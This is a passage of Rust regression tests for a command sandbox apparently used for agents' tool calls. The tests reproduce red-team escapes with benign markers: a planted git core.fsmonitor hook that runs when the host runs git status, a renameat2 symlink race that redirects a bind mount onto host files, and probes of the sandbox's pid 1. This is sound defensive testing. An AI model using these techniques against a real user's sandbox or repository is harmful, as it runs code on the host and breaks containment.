    git(&ws, &[&add[..], &[lib.to_str().unwrap(), "lib"]].concat());
    git(&ws, &["commit", "-q", "-m", "sub"]);
    ws
}

/// As root, hand a test's tree to the sandbox uid (65534).
fn chown_to_sandbox(root: &Path) {
    if is_root() {
        let st = Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(root)
            .status()
            .unwrap();
        assert!(st.success());
    }
}

/// `git status` at the top of a checkout recurses into each checked-out
/// submodule through the `.git` file in the submodule's working tree (a
/// red-team finding): rewritten to name a git directory the command made,
/// its `core.fsmonitor` ran on the host. Those files are held read-only with
/// `.git`; the control (`--git rw`) shows the attack landing and the host's
/// `git status` running the planted command.
#[test]
fn submodule_git_files_stay_out_of_reach() {
    for (extra, blocked) in [
        (&[][..], true),
        (&["--layers", "outer"][..], true),
        (&["--git", "rw"][..], false),
    ] {
        let root = workspace();
        let ws = checkout_with_submodule(root.path());
        chown_to_sandbox(root.path());
        let pwned = ws.join("pwned");
        let script = format!(
            "mkdir evil && cp -r .git/modules/lib/. evil/ && \
             git config -f evil/config core.fsmonitor 'touch {}; false' && \
             git config -f evil/config --unset core.worktree; \
             echo 'gitdir: ../evil' > lib/.git; echo rewrite=$?",
            pwned.display()
        );
        let (v, code) = json_run(&ws, extra, &["sh", "-c", &script]);
        assert_eq!(code, 0, "{extra:?}: {v}");
        let out = stdout_of(&v);
        let gitfile = std::fs::read_to_string(ws.join("lib/.git")).unwrap();
        git(&ws, &["status", "--short"]);
        if blocked {
            assert!(out.contains("rewrite=2"), "{extra:?}: {v}");
            assert_eq!(gitfile, "gitdir: ../.git/modules/lib\n", "{extra:?}");
            assert!(!pwned.exists(), "{extra:?}: the planted fsmonitor ran");
        } else {
            assert!(out.contains("rewrite=0"), "control: {v}");
            assert!(pwned.exists(), "control: host git status ran nothing");
        }
    }
}

/// Two runs in one workspace (an agent's parallel tool calls). bwrap mounts
/// by path, following symlinks: run A, started while the workspace had no
/// `.git`, makes one and keeps swapping it with a symlink to `../..`; run B
/// plans a read-only bind of that `.git`, and when the link was in place as
/// bwrap mounted it, the host directory two levels up was bound over the
/// sandbox's own tmpfs there, where B read a host file (and, in the red
/// team's round, drove the user's tmux server). The swap is put back before
/// anything checks the paths, so only the mount table shows it: the helper
/// now checks each planned mount is a mount root holding the planned file,
/// and refuses to run the command otherwise. Asserted: B never sees the host
/// file, and the race was hit (some B runs refused) — the attack happened.
#[test]
fn a_concurrent_run_cannot_redirect_a_mount() {
    let root = tempfile::Builder::new()
        .prefix("cordon-race-")
        .tempdir()
        .unwrap();
    let ws = root.path().join("d/ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(root.path().join("marker"), "HOST-MARKER\n").unwrap();
    let stop = ws.join("stop");
    chown_to_sandbox(root.path());
    // A: an ordinary run, swapping `.git` and a symlink until told to stop.
    let swapper = [
        "import ctypes, os, time",
        "libc = ctypes.CDLL(None, use_errno=True)",
        "os.mkdir('.git'); os.symlink('../..', '.git.alt')",
        "while not os.path.exists('stop'):",
        "    libc.renameat2(-100, b'.git', -100, b'.git.alt', 2); time.sleep(0.001)",
    ]
    .join("\n");
    let mut a = cmd()
        .args(["run", "--timeout", "120", "--workspace"])
        .arg(&ws)
        .args(["--", "python3", "-c", &swapper])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let t0 = Instant::now();
    while !ws.join(".git.alt").exists() && t0.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(ws.join(".git.alt").exists(), "run A did not start swapping");
    let marker = root.path().join("marker");
    let (mut refused, mut ran) = (0, 0);
    for _ in 0..300 {
        let out = cmd()
            .args(["run", "--workspace"])
            .arg(&ws)
            .args(["--", "cat"])
            .arg(&marker)
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!text.contains("HOST-MARKER"), "run B saw the host: {text}");
        if text.contains("is not the mount the launcher planned") {
            refused += 1;
        } else {
            ran += 1;
        }
        if refused >= 3 && ran >= 3 {
            break;
        }
    }
    std::fs::write(&stop, "").unwrap();
    let _ = a.wait();
    assert!(refused >= 1, "the race was never hit ({ran} runs)");
}

/// A submodule never checked out has no git directory to hold: the command
/// can `git init` in its empty working tree, and the host's `git status`
/// then recurses into it and runs its config (a red-team find). It is found
/// through `.gitmodules` and reported after the run; `--git rw` (the
/// control) reports nothing.
#[test]
fn an_unchecked_out_submodule_made_a_repository_is_reported() {
    for (extra, reported) in [(&[][..], true), (&["--git", "rw"][..], false)] {
        let root = workspace();
        let ws = checkout_with_submodule(root.path());
        git(&ws, &["submodule", "-q", "deinit", "-f", "lib"]);
        std::fs::remove_dir_all(ws.join(".git/modules")).unwrap();
        chown_to_sandbox(root.path());
        let (v, code) = json_run(
            &ws,
            extra,
            &[
                "sh",
                "-c",
                "cd lib && git init -q && git config core.fsmonitor 'false' && echo made",
            ],
        );
        assert_eq!(code, 0, "{extra:?}: {v}");
        assert!(stdout_of(&v).contains("made"), "{v}");
        let sub = ws.join("lib/.git");
        let created = v["git_created"].to_string();
        if reported {
            assert!(created.contains(sub.to_str().unwrap()), "{v}");
        } else {
            assert_eq!(v["git_created"], serde_json::json!([]), "control: {v}");
        }
    }
}

/// A terminal (non-JSON) run of `command` in workspace `ws` that must
/// succeed; its stderr, where cordon's notes and warnings go.
fn terminal_stderr(ws: &Path, command: &[&str]) -> String {
    let mut args = vec!["run", "--workspace", ws.to_str().unwrap(), "--"];
    args.extend_from_slice(command);
    let out = run(&args);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    stderr
}

/// A symlinked `.git` cannot be held read-only (the command could repoint
/// the link): the run goes on and says so on the terminal.
#[test]
fn symlinked_git_dir_is_said_on_the_terminal() {
    let ws = workspace();
    let target = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(target.path(), ws.path().join(".git")).unwrap();
    let stderr = terminal_stderr(ws.path(), &["true"]);
    assert!(
        stderr.contains(&format!(
            "cordon: note: {}/.git is a symlink and stays writable",
            ws.path().display()
        )),
        "{stderr}"
    );
    // A `.git` file whose git directory is reached through a symlink in the
    // workspace (a red-team finding): the link could be re-pointed.
    let ws = workspace();
    let w = ws.path();
    std::fs::create_dir_all(w.join(".store-real/repo")).unwrap();
    std::os::unix::fs::symlink(".store-real", w.join(".store")).unwrap();
    std::fs::write(w.join(".git"), "gitdir: .store/repo\n").unwrap();
    let stderr = terminal_stderr(w, &["true"]);
    assert!(
        stderr.contains(&format!(
            "cordon: note: {0}/.git reaches its git directory through {0}/.store, which is a symlink and stays writable",
            w.display()
        )),
        "{stderr}"
    );
}

/// A repository the command makes at the top of a workspace that had none
/// cannot be mounted over beforehand, and the host's git (or a shell prompt
/// that runs it) would take its hooks and config from it: the result names
/// it (`git_created`, a note) and a terminal run warns. Controls: the same
/// run without the `git init`, and with `--git rw` (the caller's choice),
/// report nothing; a `.git` that was there is read-only and not reported.
#[test]
fn a_git_dir_the_command_creates_is_reported() {
    let make = "git init -q . && echo made";
    for (extra, script, reported) in [
        (&[][..], make, true),
        (&["--layers", "outer"][..], make, true),
        (&[][..], "echo made", false),
        (&["--git", "rw"][..], make, false),
        // No `.git`: the workspace itself made a bare repository.
        (
            &[][..],
            "git init -q --bare . && git config core.bare false && echo made",
            true,
        ),
    ] {
        let ws = workspace();
        let (v, code) = json_run(ws.path(), extra, &["sh", "-c", script]);
        assert_eq!(code, 0, "{extra:?}: {v}");
        assert!(stdout_of(&v).contains("made"), "{extra:?}: {v}");
        let bare = script.contains("--bare");
        let git = if bare {
            ws.path().to_path_buf()
        } else {
            ws.path().join(".git")
        };
        let created: Vec<&str> = v["git_created"]
            .as_array()
            .unwrap_or_else(|| panic!("no git_created: {v}"))
            .iter()
            .filter_map(|x| x.as_str())
            .collect();
        let note = v["notes"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|x| x.as_str())
            .any(|n| {
                n.starts_with(&format!("the command created {}: ", git.display()))
                    || n.starts_with(&format!(
                        "the command made {} a git directory (HEAD, objects/, refs/): ",
                        git.display()
                    ))
            });
        if reported {
            assert!(git.join("config").is_file(), "{extra:?}: {v}");
            assert_eq!(created, [git.to_str().unwrap()], "{extra:?}: {v}");
            assert!(note, "{extra:?}: {v}");
        } else {
            assert!(created.is_empty() && !note, "{extra:?}: {v}");
        }
    }
    // A `.git` there from the start: read-only, nothing created.
    let ws = workspace();
    let git = ws.path().join(".git");
    std::fs::create_dir(&git).unwrap();
    let (v, code) = json_run(ws.path(), &[], &["sh", "-c", "git init -q . ; echo done"]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["git_created"], serde_json::json!([]), "{v}");
    assert!(std::fs::read_dir(&git).unwrap().next().is_none(), "{v}");
    // On a terminal run, a warning on stderr.
    let ws = workspace();
    let stderr = terminal_stderr(ws.path(), &["sh", "-c", "mkdir .git"]);
    assert!(
        stderr.contains(&format!(
            "cordon: warning: the command created {}/.git: ",
            ws.path().display()
        )),
        "{stderr}"
    );
}

/// A terminal resize reaches the command: SIGWINCH to the launcher is passed
/// to the sandbox's processes (the command runs in a session of its own, so
/// the kernel's SIGWINCH stops at the launcher's process group), and it
/// neither ends the run nor counts as an interruption. Before, the command's
/// trap never ran and the run ended only at its timeout.
#[test]
fn sigwinch_reaches_the_command() {
    // Also with the helper alone, where the command is not under bwrap.
    for layers in ["both", "inner"] {
        let ws = workspace();
        let ready = ws.path().join("ready");
        let child = spawn_run(
            0,
            false,
            &["--timeout", "20", "--layers", layers],
            ws.path(),
            &format!(
                "trap 'echo resized; exit 7' WINCH; : > {}; while :; do sleep 0.05; done",
                ready.display()
            ),
        );
        wait_for_file(&ready);
        signal_and_settle(child.id(), libc::SIGWINCH);
        let (st, out) = wait_bounded(child);
        assert_eq!(
            st.code(),
            Some(7),
            "{layers}: the trap's exit status: {out}"
        );
        assert!(out.contains("resized"), "{layers}: {out}");
    }
}

/// The launcher is not dumpable: killed by a signal that dumps core, it
/// leaves no core file, which would hold the caller's whole environment and
/// land in the current directory, often the workspace the next command can
/// read. The control, a plain program killed the same way in the same kind
/// of directory with the same limit, does dump core. Before, the launcher
/// run as cordon-test left a core file with the caller's secret in it; run
/// as root on the test machine it left none even then (for a reason not
/// pinned down), so the cordon-test pass is the one that tells.
#[test]
fn launcher_leaves_no_core_file() {
    use std::os::unix::process::{CommandExt, ExitStatusExt};
    let pattern = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default();
    let uses_pid = std::fs::read_to_string("/proc/sys/kernel/core_uses_pid").unwrap_or_default();
    if pattern.trim() != "core" || uses_pid.trim() != "0" {
        eprintln!("launcher_leaves_no_core_file: core_pattern {pattern:?} (uses_pid {uses_pid:?}) writes no ./core here; nothing to observe");
        return;
    }
    // Core dumps on, as far as the hard limit lets us.
    let core_on = |c: &mut Command| {
        // SAFETY: between fork and exec; getrlimit/setrlimit are
        // async-signal-safe and touch only this process's limits.
        unsafe {
            c.pre_exec(|| {
                let mut l: libc::rlimit = std::mem::zeroed();
                libc::getrlimit(libc::RLIMIT_CORE, &mut l);
                l.rlim_cur = l.rlim_max;
                libc::setrlimit(libc::RLIMIT_CORE, &l);
                libc::setpgid(0, 0);
                libc::signal(libc::SIGSEGV, libc::SIG_DFL);
                Ok(())
            });
        }
    };
    let kill_and_wait = |mut child: std::process::Child| {
        // SAFETY: kill on our own child.
        unsafe { libc::kill(child.id() as i32, libc::SIGSEGV) };
        child.wait().unwrap()
    };
    // Control: `sleep` dumps core here.
    let cwd = workspace();
    let mut c = Command::new("sleep");
    c.arg("30").current_dir(cwd.path());
    core_on(&mut c);
    let child = c.spawn().unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let st = kill_and_wait(child);
    assert_eq!(st.signal(), Some(libc::SIGSEGV));
    if !cwd.path().join("core").exists() {
        eprintln!("launcher_leaves_no_core_file: the control left no core (RLIMIT_CORE hard limit 0?); nothing to observe");
        return;
    }
    // The launcher, with a secret in its environment.
    let cwd = workspace();
    let ready = cwd.path().join("ready");
    let mut c = run_in(
        cwd.path(),
        &["sh", "-c", &format!(": > {}; sleep 5", ready.display())],
    );
    c.current_dir(cwd.path())
        .env("CORDON_TEST_SECRET", "launcher-core-secret")
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    core_on(&mut c);
    let child = c.spawn().unwrap();
    wait_for_file(&ready);
    let st = kill_and_wait(child);
    assert_eq!(st.signal(), Some(libc::SIGSEGV), "{st:?}");
    assert!(!st.core_dumped(), "the launcher dumped core");
    assert!(
        !cwd.path().join("core").exists(),
        "the launcher left a core file in its current directory"
    );
}

/// With both layers the helper is the sandbox's pid 1 (bwrap --as-pid-1,
/// helper --init) and the command its child. The command's Landlock domain
/// is nested in the init's, so it cannot even probe its parent with signal
/// 0, nor read its memory. Control: with `--layers outer` the parent is
/// bwrap's own init, outside any Landlock domain, and signal 0 reaches it.
#[test]
fn the_helper_is_pid_1_and_out_of_the_commands_reach() {
    let ws = workspace();
    let probe = "echo ppid=$PPID; \
                 kill -0 1 2>/dev/null && echo kill0=ok || echo kill0=denied; \
                 kill -9 1 2>/dev/null && echo kill9=ok || echo kill9=denied; \
                 head -c1 /proc/1/mem >/dev/null 2>&1 && echo mem=read || echo mem=denied; \
                 echo alive";
    let (v, code) = json_run(ws.path(), &[], &["sh", "-c", probe]);
    let out = stdout_of(&v);
    assert_eq!(code, 0, "{v}");
    for want in [
        "ppid=1",
        "kill0=denied",
        "kill9=denied",
        "mem=denied",
        "alive",
    ] {
        assert!(out.lines().any(|l| l == want), "{want} missing: {out}");
    }
    let (v, code) = json_run(ws.path(), &["--layers", "outer"], &["sh", "-c", probe]);
    let out = stdout_of(&v);
    assert_eq!(code, 0, "{v}");
    assert!(out.lines().any(|l| l == "kill0=ok"), "control: {out}");
}

/// The init's own filter is not the command's: a command policy that
/// denies wait4 and every way to fork still gets its exit status, and a
/// signal's death, carried out by the init (which would exit 255 if its
/// wait4 were denied). Control: the same policy denies wait4 to the command.
#[test]
fn the_init_carries_the_status_under_any_command_filter() {
    let ws = workspace();
    let cfg = ws.path().join("cordon.toml");
    std::fs::write(
        &cfg,
        "[profiles.nowait]\nsyscalls = { profile = \"default\", deny = [\"wait4\", \"waitid\", \"clone\", \"clone3\", \"fork\", \"vfork\"] }\n",
    )
    .unwrap();
    let cfg = cfg.to_str().unwrap();
    let go = |cmd: &[&str]| json_run(ws.path(), &["--config", cfg, "--profile", "nowait"], cmd);
    let (v, code) = go(&["sh", "-c", "exit 5"]);
    assert_eq!((v["exit_code"].as_i64(), code), (Some(5), 5), "{v}");
    let (v, _) = go(&["sh", "-c", "kill -TERM $$"]);
    assert_eq!(v["signal"].as_i64(), Some(15), "{v}");
    // Control: the command itself cannot start a child it could wait for.
    let (v, code) = go(&["sh", "-c", "true & wait; echo waited"]);
    assert_eq!(code, 2, "{v}");
    assert!(
        v["stderr"]["data"]
            .as_str()
            .unwrap_or_default()
            .contains("Cannot fork"),
        "the profile denied nothing: {v}"
    );
}

/// With both layers the run ends on the init's report of the command's
/// status, before bwrap has seen the namespaces torn down: what the
/// command left running must still be gone when cordon returns. Control:
/// the leftover is seen (by its marker, from the host) while the run lasts.
#[test]
fn leftovers_are_gone_when_the_run_ends_early() {
    let ws = workspace();
    for round in 0..5 {
        let marker = format!("leftover-{}-{round}", std::process::id());
        // `sh -c '…; :' MARKER` keeps a shell with the marker in its argv.
        let script = format!("setsid -f sh -c 'sleep 30; :' {marker}; sleep 0.5; exit 7");
        let mut child = run_in(ws.path(), &["sh", "-c", &script])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let t0 = Instant::now();
        while procs_with(&marker).is_empty() && t0.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(10));
        }
        assert!(
            !procs_with(&marker).is_empty(),
            "control: the leftover never ran"
        );
        let st = child.wait().unwrap();
        assert_eq!(st.code(), Some(7));
        let left = procs_with(&marker);
        assert!(
            left.is_empty(),
            "still running after cordon returned: {left:?}"
        );
    }
}
